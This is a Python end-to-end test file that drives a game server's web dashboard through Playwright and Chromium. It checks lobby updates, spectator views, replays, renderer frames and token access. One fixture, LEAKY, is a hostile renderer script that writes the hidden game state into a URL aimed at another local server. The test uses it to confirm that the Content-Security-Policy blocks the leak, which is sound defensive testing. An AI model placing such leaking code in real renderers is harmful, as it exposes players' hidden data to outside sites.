"""End to end: the real server, games played through the client module, Chromium watching.

Runs Debian's Chromium (``apt-get install chromium``) through Playwright;
never a downloaded browser. Skipped when either is missing, except under CI
(CI=true), where .ci/run installs both and a missing one is an error.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gameserver.checked import GameType
from tests.serverproc import ServerThread
from tests.web import play
from tests.web.chromium import require
from tests.web.test_limits import Unplayable

sync_api = require()  # skips this module without Chromium or Playwright (not under CI)
expect = sync_api.expect

GAMES = Path(__file__).with_name("games")
TOKEN = "projector-7-of-room-12"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ServerThread]:
    store = tmp_path_factory.mktemp("store") / "store.sqlite3"
    running = play.web_server(store=True, store_path=str(store), games_dirs=[str(GAMES)],
                              web_renderers="all")  # CoinToss.js draws its game
    yield running
    running.stop()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    """A fresh page; fails the test if the page logged a JavaScript error."""
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    page.on("pageerror", lambda err: errors.append(str(err)))
    yield page
    context.close()
    assert errors == []


def url(server: ServerThread, path: str) -> str:
    return f"http://127.0.0.1:{play.dashboard_port(server)}{path}"


def mark_page(page: Any) -> None:
    """Tag the document; if the page reloads, the tag is gone."""
    page.evaluate("window.__notReloaded = true")


def assert_not_reloaded(page: Any) -> None:
    assert page.evaluate("window.__notReloaded") is True


def row(page: Any, game: str, session: str) -> Any:
    return page.locator(f'tr[data-session="{game}/{session}"]')


# ---------------------------------------------------------------- lobby


def test_lobby_lists_sessions_as_they_come_and_flags_them(server: ServerThread, page: Any) -> None:
    page.goto(url(server, "/"))
    expect(page.locator(".live")).to_have_attribute("data-state", "live")
    mark_page(page)
    play.seat(server, "TicTacToe", "lobby-1", ["ann", "bob"])
    running = row(page, "TicTacToe", "lobby-1")
    expect(running).to_contain_text("ann")
    expect(running).to_contain_text("bob")
    expect(running).to_contain_text("playing")
    play.seat_partially(server, "ConnectFour", "lobby-2", "carl", players=2)
    expect(row(page, "ConnectFour", "lobby-2")).to_have_class("status-waiting")
    expect(row(page, "ConnectFour", "lobby-2")).to_contain_text("waiting for 1 more")
    server.call(play.make_quiet, server, "TicTacToe", "lobby-1", 120.0)  # < game_timeout
    expect(running).to_have_class("status-stuck")
    expect(page.locator(".game-card h3", has_text="Battleship")).to_be_visible()
    assert_not_reloaded(page)


def test_finished_sessions_are_shown_apart_and_moves_count_accepted_ones(
        server: ServerThread, page: Any) -> None:
    clients = play.seat(server, "TicTacToe", "lobby-over", ["ann", "bob"])
    page.goto(url(server, "/?q=lobby-over"))
    expect(page.locator(".live")).to_have_attribute("data-state", "live")
    live = page.locator("#sessions").locator(row(page, "TicTacToe", "lobby-over"))
    expect(live).to_be_visible()
    (first,) = play.turn(server, "TicTacToe", "lobby-over")
    clients[first].move(position=4)
    try:
        clients[1 - first].move(position=4)  # taken: rejected
    except Exception:  # noqa: BLE001 - the client module raises IllegalMove
        pass
    expect(live.locator("td").nth(4)).to_have_text("1 (+1 rejected)")
    play.play_tictactoe(server, clients, "lobby-over", [0, 1, 3, 2, 5, 8, 7, 6])  # to the end
    expect(live).to_have_count(0)  # no longer under the live sessions
    box = page.locator("#finished-box")
    expect(box.locator("summary")).to_contain_text("1 finished session")
    box.locator("summary").click()
    finished = page.locator("#finished").locator(row(page, "TicTacToe", "lobby-over"))
    expect(finished).to_contain_text("game over")


def test_keyboard_reaches_a_session_and_opens_it(server: ServerThread, page: Any) -> None:
    play.seat(server, "Nim", "keys-1", ["ann", "bob"])
    page.goto(url(server, "/"))
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.className") == "skip"
    link = row(page, "Nim", "keys-1").locator("a")
    link.focus()
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"/session/Nim/keys-1$"))
    expect(page.locator(".heap")).to_have_count(3)


def test_a_game_that_cannot_be_played_shows_its_error(page: Any) -> None:
    fresh = play.web_server()
    try:
        assert fresh.server is not None
        fresh.call(fresh.server.lobby.game_types.__setitem__, "Unplayable",
                  GameType("Unplayable", Unplayable, fresh.server.guard))
        page.goto(url(fresh, "/"))
        card = page.locator(".game-card", has=page.locator("h3", has_text="Unplayable"))
        expect(card.locator(".game-error")).to_contain_text("Cannot be played: ")
        expect(card.locator(".game-error")).to_contain_text("min_players")
        expect(card).not_to_contain_text("undefined")
        tictactoe = page.locator(".game-card", has=page.locator("h3", has_text="TicTacToe"))
        expect(tictactoe.locator(".players-range")).to_have_text("2 players")
    finally:
        # Leave the page before its server goes: a live page whose server stops
        # reconnects, and the browser logs the refused or reset connection as a
        # console error (once 2 failures in 3 runs at the page fixture's teardown).
        page.goto("about:blank")
        fresh.stop()


def test_a_live_page_comes_back_after_a_503(browser: Any) -> None:
    """A 503 (the dashboard busy or stopping) once left the page "reconnecting" for good."""
    fresh = play.web_server()
    context = browser.new_context()  # not the page fixture: the 503 is a console error
    try:
        assert fresh.server is not None and fresh.server.dashboard is not None
        page = context.new_page()
        page.goto(url(fresh, "/"))
        badge = page.locator(".live")
        expect(badge).to_have_attribute("data-state", "live")
        fresh.server.dashboard.stopping = True  # the stream ends; reconnecting gets 503
        expect(badge).to_have_attribute("data-state", "lost")
        page.wait_for_timeout(3000)  # the browser has given up on its own by now
        fresh.server.dashboard.stopping = False
        play.seat(fresh, "Echo", "back-1", ["eve"])
        expect(row(page, "Echo", "back-1")).to_contain_text("eve")
        expect(badge).to_have_attribute("data-state", "live")
    finally:
        context.close()
        fresh.stop()


# ---------------------------------------------------------------- spectating


def test_spectator_board_changes_after_each_move(server: ServerThread, page: Any) -> None:
    clients = play.seat(server, "TicTacToe", "watch-1", ["ann", "bob"])
    page.goto(url(server, "/session/TicTacToe/watch-1"))
    expect(page.locator(".ttt-cell")).to_have_count(9)
    expect(page.locator(".live")).to_have_attribute("data-state", "live")
    mark_page(page)
    for cell in (4, 0, 8, 2):
        (mover,) = play.turn(server, "TicTacToe", "watch-1")
        play.play_tictactoe(server, clients, "watch-1", [cell])
        expect(page.locator(f'[data-cell="{cell}"] .mark')).to_have_text("XO"[mover])
        (next_up,) = play.turn(server, "TicTacToe", "watch-1")
        expect(page.locator(".status")).to_have_text(f"Turn: {['ann', 'bob'][next_up]}")
    expect(page.locator(".ttt-cell .mark:not(:empty)")).to_have_count(4)
    assert_not_reloaded(page)


def test_a_spectator_sees_only_the_public_view_of_a_hidden_game(
        server: ServerThread, page: Any) -> None:
    ships = play.seat(server, "Battleship", "secret-1", ["ann", "bob"])
    play.place_fleets(ships)
    for player in (0, 1):
        page.goto(url(server, f"/session/Battleship/secret-1?player={player}"))
        expect(page.locator("#board")).to_have_attribute("data-hidden", "true")
        expect(page.locator("#board")).to_contain_text("Public view.")
        expect(page.locator(".status")).to_contain_text("Turn: ")
        expect(page.locator(".sea-cell")).to_have_count(0)
        html = page.content()
        for ship in play.FLEET_A + play.FLEET_B:
            assert str(ship).replace("'", '"') not in html

    rps = play.seat(server, "RockPaperScissors", "secret-2", ["ann", "bob"])
    rps[1].move(choice="scissors")
    page.goto(url(server, "/session/RockPaperScissors/secret-2?player=1"))
    expect(page.locator("#board")).to_contain_text("Public view.")
    expect(page.locator(".meta")).to_contain_text("Moves")
    assert "scissors" not in page.content()


def test_the_operator_sees_each_players_view_and_only_that(browser: Any) -> None:
    guarded = play.web_server(web_token=TOKEN)
    context = browser.new_context()
    try:
        page = context.new_page()
        ships = play.seat(guarded, "Battleship", "secret-3", ["ann", "bob"])
        play.place_fleets(ships)
        page.goto(url(guarded, f"/session/Battleship/secret-3?player=0&token={TOKEN}"))
        own, shots = page.locator(".sea").nth(0), page.locator(".sea").nth(1)
        expect(own.locator(".sea-cell.ship")).to_have_count(17)
        expect(shots.locator(".sea-cell.ship")).to_have_count(0)
        html = page.content()
        assert '[0, 0, 5, "h"]' in html  # ann's own fleet, in the JSON view
        for ship in play.FLEET_B:  # bob's fleet: nowhere
            assert str(ship).replace("'", '"') not in html

        rps = play.seat(guarded, "RockPaperScissors", "secret-4", ["ann", "bob"])
        rps[1].move(choice="scissors")
        page.goto(url(guarded, "/session/RockPaperScissors/secret-4?player=0"))
        expect(page.locator(".rps .round")).to_contain_text("bob has chosen")
        assert "scissors" not in page.content()
        page.get_by_role("radio", name="bob").check()  # the operator picks bob's view
        expect(page.locator(".rps .round")).to_contain_text("bob chose scissors")
        assert "player=1" in page.url
    finally:
        context.close()
        guarded.stop()


def test_game_errors_show_as_an_error_box_and_custom_renderers_draw(
        server: ServerThread, page: Any) -> None:
    (broken,) = play.seat(server, "BrokenView", "oops-1", ["ann"])
    page.goto(url(server, "/session/BrokenView/oops-1"))
    expect(page.locator("#board .json-tree")).to_be_visible()  # no renderer: the JSON tree
    broken.move(anything=1)
    expect(page.locator("#board .error-box")).to_contain_text("BrokenView")

    (coin,) = play.seat(server, "CoinToss", "coin-1", ["ann"])
    page.goto(url(server, "/session/CoinToss/coin-1"))
    frame = page.frame_locator("#board iframe.renderer-frame")  # CoinToss.js: sandboxed
    expect(frame.locator(".coin")).to_have_text("Not tossed yet")
    coin.move(call="heads", force="tails")
    expect(frame.locator('.coin[data-coin="tails"]')).to_be_visible()


def test_current_ids_of_seats_the_game_does_not_have_show_as_player_numbers(
        server: ServerThread, page: Any) -> None:
    """A student's off-by-one in ``current_player`` must not break the instructor's pages.

    The ``page`` fixture fails the test on any JavaScript error.
    """
    play.seat(server, "NotASeat", "off-by-one-1", ["ann", "bob"])
    page.goto(url(server, "/"))
    running = row(page, "NotASeat", "off-by-one-1")
    expect(running).to_contain_text("player 2, player -1, player 1000000000000000000")
    for player in ("", "?player=1"):
        page.goto(url(server, f"/session/NotASeat/off-by-one-1{player}"))
        status = page.locator(".status.turn")
        expect(status).to_contain_text("Turn (together): player 2, player -1, player 1000")
        expect(page.locator("#board .json-tree")).to_contain_text("seats")


def test_a_view_too_large_for_a_live_page_is_a_note_with_a_link_and_the_page_stays_live(
        server: ServerThread, page: Any) -> None:
    """Such a view once dropped the page's stream: "reconnecting…" every 2 s, forever."""
    (client,) = play.seat(server, "BigView", "huge-1", ["ann"])
    client.move(size=600_000)
    page.goto(url(server, "/session/BigView/huge-1"))
    note = page.locator("#board .notice")
    expect(note).to_contain_text("Too large to show live")
    expect(note).to_contain_text("more than a live page is sent at once (512 KiB)")
    expect(note.locator("a")).to_have_attribute("href", "/api/sessions/BigView/huge-1?player=0")
    expect(page.locator(".live")).to_have_attribute("data-state", "live")
    client.move(size=5)
    expect(page.locator("#board .json-tree")).to_contain_text("xxxxx")


# ---------------------------------------------------------------- history and replay


def test_finished_game_replays_move_by_move(server: ServerThread, page: Any) -> None:
    clients = play.seat(server, "TicTacToe", "replay-1", ["ann", "bob"])
    (first,) = play.turn(server, "TicTacToe", "replay-1")
    play.play_tictactoe(server, clients, "replay-1", [0, 1, 3, 4, 6])  # first mover wins
    winner = ["ann", "bob"][first]
    page.goto(url(server, "/history?game=TicTacToe"))
    entry = page.locator("#history tr", has=page.locator("td", has_text="replay-1"))
    expect(entry).to_contain_text(f"{winner} wins")
    expect(page.locator(".leaderboard[data-game=TicTacToe]")).to_contain_text(winner)
    entry.get_by_role("link", name=re.compile("replay")).click()
    page.wait_for_url(re.compile(r"/replay/\d+"))
    marks = page.locator("#board .ttt-cell .mark:not(:empty)")
    # The replay is loaded (and listens for keys) once it shows its start position;
    # "no marks" alone is also true before anything is drawn.
    expect(page.locator("#position")).to_contain_text("Start (0 of 5 moves)")
    expect(marks).to_have_count(0)
    page.locator("body").click()  # keys go to the page, not the address bar
    for step, cell in enumerate((0, 1, 3, 4, 6), start=1):
        page.keyboard.press("ArrowRight")
        expect(marks).to_have_count(step)
        expect(page.locator(f'#board [data-cell="{cell}"] .mark')).not_to_be_empty()
        expect(page.locator("#position")).to_contain_text(f"Move {step} of 5")
    expect(page.locator(".status")).to_have_text(f"Game over: {winner} wins")
    page.keyboard.press("Home")
    expect(marks).to_have_count(0)
    page.locator('#moves button[data-step="3"]').click()
    expect(marks).to_have_count(3)
    expect(page.locator('#moves button[aria-current="step"]')).to_contain_text("3.")
    page.get_by_role("radio", name="bob").check()  # the same game from bob's side, same move
    page.wait_for_url(re.compile(r"player=1"))
    expect(page.get_by_role("radio", name="bob")).to_be_checked()
    expect(marks).to_have_count(3)


# ---------------------------------------------------------------- a game's own renderer, framed


def history_id(server: ServerThread, game: str, session: str) -> int:
    """The id of the finished game of ``game``/``session`` in the history."""
    def find() -> int | None:
        games = play.get_json(server, f"/api/history?game={game}")["games"]
        return next((g["id"] for g in games if g["session"] == session), None)
    return int(play.wait_until(find, f"{game}/{session} in the history"))


def coin_replay(server: ServerThread, page: Any, session: str, coin: str, step: int) -> Any:
    """Play three calls of CoinToss (the coin always shows ``coin``), open the replay at
    ``step``; its renderer's frame."""
    (client,) = play.seat(server, "CoinToss", session, ["ann"])
    for side in ("heads", "tails", "heads"):
        client.move(call=side, force=coin)
    page.goto(url(server, f"/replay/{history_id(server, 'CoinToss', session)}?step={step}"))
    return page.frame_locator("#board iframe.renderer-frame")


def test_a_folder_games_replay_shows_its_end_and_says_why_the_moves_between_have_none(
        server: ServerThread, page: Any) -> None:
    """CoinToss (from a games folder, so in a worker process) replayed as "No state
    recorded for this step." after its start, even at its end: the server does not play a
    worker's game again to rebuild the states, and the page did not say so. Now the last
    step shows the final state, and the others say why they have none."""
    frame = coin_replay(server, page, "coin-replay", "tails", 3)
    expect(page.locator("#position")).to_contain_text("Move 3 of 3")
    expect(frame.locator(".coin")).to_have_text("The coin shows tails")
    expect(frame.locator("li")).to_have_text("ann: 1 points")
    expect(page.locator(".status")).to_have_text("Game over: ann wins")
    page.locator('#moves button[data-step="1"]').click()
    expect(page.locator("#board .notice")).to_have_text(
        "No state recorded for this step: the game CoinToss runs in a worker process: its "
        "moves are shown, the states after each move are not.")


def test_the_replays_keys_work_when_pressed_in_a_renderers_frame(
        server: ServerThread, page: Any) -> None:
    """A key pressed after a click in an author's frame stays in the frame's document:
    the replay's arrow keys did nothing there. Now the frame passes them on."""
    frame = coin_replay(server, page, "coin-keys", "heads", 0)
    expect(frame.locator(".coin")).to_have_text("Not tossed yet")
    frame.locator(".coin").click()  # the keys go to the frame now
    page.keyboard.press("End")
    expect(page.locator("#position")).to_contain_text("Move 3 of 3")
    expect(frame.locator("li")).to_have_text("ann: 2 points")
    # Back to the start, where the frame stays: a key whose step has no state replaces
    # the frame with a note, and a frame removed between a key's down and up left
    # Playwright's press waiting for ever (1 run in 3; a person's key has no such wait).
    frame.locator(".coin").click()
    page.keyboard.press("Home")
    expect(page.locator("#position")).to_contain_text("Start (0 of 3 moves)")
    expect(frame.locator(".coin")).to_have_text("Not tossed yet")


def test_projector_mode_reaches_into_a_renderers_frame_and_back(
        server: ServerThread, page: Any) -> None:
    """Projector mode (key P) enlarged the page but not an author's frame, and P pressed
    in the frame did nothing. Now the frame follows the page, and passes P on."""
    play.seat(server, "CoinToss", "coin-look", ["ann"])
    page.goto(url(server, "/session/CoinToss/coin-look"))
    frame = page.frame_locator("#board iframe.renderer-frame")
    expect(frame.locator(".coin")).to_have_text("Not tossed yet")
    page.locator("h1").click()  # keys go to the page, not the address bar
    page.keyboard.press("p")
    expect(page.locator("html")).to_have_class("projector")
    expect(frame.locator("html")).to_have_class("projector")
    assert frame.locator("html").evaluate("e => getComputedStyle(e).fontSize") == "26px"
    frame.locator(".coin").click()
    page.keyboard.press("p")  # in the frame: the page leaves projector mode
    expect(page.locator("html")).not_to_have_class("projector")
    expect(frame.locator("html")).not_to_have_class("projector")


def test_arrow_keys_move_between_the_move_targets_of_a_renderers_frame(
        server: ServerThread, browser: Any) -> None:
    """On a player's page the arrow keys move between the bundled boards' targets; in an
    author's frame they did nothing. Now the frame moves its focus the same way."""
    from tests.web.test_play_browser import Player

    ann = Player(browser, f"http://127.0.0.1:{play.dashboard_port(server)}")
    try:
        ann.start("CoinToss", 1, "ann")
        assert ann.wait_turn() == "mine"
        frame = ann.page.frame_locator("#board iframe.renderer-frame")
        heads = frame.locator("#heads.clickable")
        heads.focus()
        ann.page.keyboard.press("ArrowRight")
        expect(frame.locator("#tails")).to_be_focused()
        ann.page.keyboard.press("ArrowLeft")
        expect(heads).to_be_focused()
        ann.act(heads)  # and Enter or a click still moves
        expect(frame.locator(".coin")).not_to_have_text("Not tossed yet")
    finally:
        ann.close()


LEAKY = """
GameDashboard.register("CoinToss", function (state, ctx) {
  const away = "http://localhost:PORT/leak?" + encodeURIComponent(JSON.stringify(state));
  setTimeout(() => { location = away; }, 0);
  return ctx.h("p", { id: "shown", text: JSON.stringify(state) });
});
"""


def test_a_renderers_frame_cannot_take_what_it_was_shown_to_another_site(
        browser: Any, tmp_path: Path) -> None:
    """A renderer may navigate its own frame (a sandbox allows that): to another site,
    with the state in the address, it would hand a hidden view on the operator's page to
    that site. The page's Content-Security-Policy (frame-src 'self') refuses it."""
    import http.server
    import shutil
    import threading

    asked: list[str] = []

    class Away(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the standard library's name
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    away = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Away)
    threading.Thread(target=away.serve_forever, daemon=True).start()
    shutil.copy(GAMES / "coin_toss.py", tmp_path)
    (tmp_path / "CoinToss.js").write_text(LEAKY.replace("PORT", str(away.server_address[1])))
    leaky = play.web_server(games_dirs=[str(tmp_path)], web_renderers="all")
    context = browser.new_context()
    try:
        (coin,) = play.seat(leaky, "CoinToss", "coin-away", ["ann"])
        coin.move(call="heads", force="tails")
        page = context.new_page()
        with page.expect_console_message(
                lambda msg: "violates the following Content Security Policy" in msg.text
        ) as refused:
            page.goto(url(leaky, "/session/CoinToss/coin-away"))
        text = refused.value.text
        assert f"Framing 'http://localhost:{away.server_address[1]}/' violates" in text
        assert "frame-src 'self'" in text
        assert asked == []  # checked before the request is made: none was
    finally:
        context.close()
        leaky.stop()
        away.shutdown()
        away.server_close()


# ---------------------------------------------------------------- access token


def test_token_once_in_the_address_then_the_pages_work(browser: Any) -> None:
    guarded = play.web_server(web_token=TOKEN)
    context = browser.new_context()
    try:
        page = context.new_page()
        page.goto(url(guarded, "/"))
        expect(page.locator("input[name=token]")).to_be_visible()  # no token: a form
        page.goto(url(guarded, f"/?token={TOKEN}"))
        page.wait_for_url(url(guarded, "/"))  # the token left the address bar
        expect(page.locator(".live")).to_have_attribute("data-state", "live")
        play.seat(guarded, "TicTacToe", "guarded-1", ["ann", "bob"])
        expect(row(page, "TicTacToe", "guarded-1")).to_contain_text("ann")
    finally:
        context.close()
        guarded.stop()
